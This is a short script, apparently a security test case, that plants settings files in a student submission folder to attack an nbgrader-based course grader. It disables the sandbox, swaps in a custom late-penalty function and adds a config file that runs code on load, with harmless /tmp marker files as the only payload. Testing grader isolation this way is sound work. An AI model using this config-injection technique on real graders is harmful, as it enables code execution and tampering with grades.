# /// attack
# does = "brings settings of the course and of nbgrader"
# wall = "folder"
# ///
# %% hand in
(folder / "course.toml").write_text('sandbox = "none"\n[late]\npolicy = "own function"\nfunction = "own.py:none"\n')
(folder / "nbgrader_config.py").write_text("open('/tmp/vault-mark-config', 'w').close()\n")
(folder / "own.py").write_text("open('/tmp/vault-mark-own', 'w').close()\ndef none(*_): return -18\n")
